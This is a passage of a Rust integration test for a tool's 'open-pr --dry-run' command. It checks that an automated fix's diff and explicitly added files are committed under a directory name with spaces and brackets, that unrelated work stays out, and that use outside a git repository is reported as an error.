    let dry_run = |stdin: String, flags: &[&str]| {
        Test::new_like(&repo.test)
            .stdin(stdin)
            .args(["open-pr", "--dry-run"])
            .args(flags.iter().copied())
            .arg("--workspace")
            .arg(&project)
            .run()
            .expect_status(0)
    };

    // Heal's diff, as heal writes it there: paths from the project's directory.
    std::fs::write(project.join("cart.py"), "def total(p):\n    return p\n").unwrap();
    let diff = git(&project, &["diff", "--relative"]);
    assert!(diff.contains("a/cart.py"), "{diff}");
    git(&project, &["checkout", "-q", "--", "cart.py"]);
    // Work elsewhere in the repository stays out.
    std::fs::write(repo.work.join("notes.txt"), "work in progress\n").unwrap();
    let heal = json!({"heal": {"status": "green", "engine": "llm", "attempts": [{}], "diff": diff,
        "tests": {"framework": "pytest", "outcome": "passed", "counts": {"passed": 4, "failed": 0, "errors": 0, "skipped": 0}}}});
    dry_run(run_document(heal), &[]);
    assert_eq!(
        git(&repo.work, &["diff", "--name-only", "HEAD", &scratch]),
        "services/shop [eu]/cart.py\n"
    );
    let committed = git(
        &repo.work,
        &["show", &format!("{scratch}:services/shop [eu]/cart.py")],
    );
    assert!(committed.contains("return p\n"), "{committed}");

    // Without heal: the tracked changes in the project's directory, and a file named there.
    std::fs::write(project.join("cart.py"), "def total(p):\n    return p + 1\n").unwrap();
    std::fs::write(project.join("new.py"), "NEW = 1\n").unwrap();
    dry_run(run_document(json!({})), &["--add", "new.py"]);
    assert_eq!(
        git(&repo.work, &["diff", "--name-only", "HEAD", &scratch]),
        "services/shop [eu]/cart.py\nservices/shop [eu]/new.py\n"
    );
    // The checkout is as it was.
    assert_eq!(
        git(&repo.work, &["status", "--porcelain"]),
        " M notes.txt\n M \"services/shop [eu]/cart.py\"\n?? \"services/shop [eu]/new.py\"\n"
    );

    // Outside any repository: said.
    let outside = crate::util::TempDir::new();
    let run = Test::new_like(&repo.test)
        .stdin(run_document(json!({})))
        .args(["open-pr", "--dry-run", "--workspace"])
        .arg(outside.path())
        .run()
        .expect_status(2);
    assert!(
        run.stderr().contains("is not in a git repository"),
        "{}",
        run.stderr()
    );
}
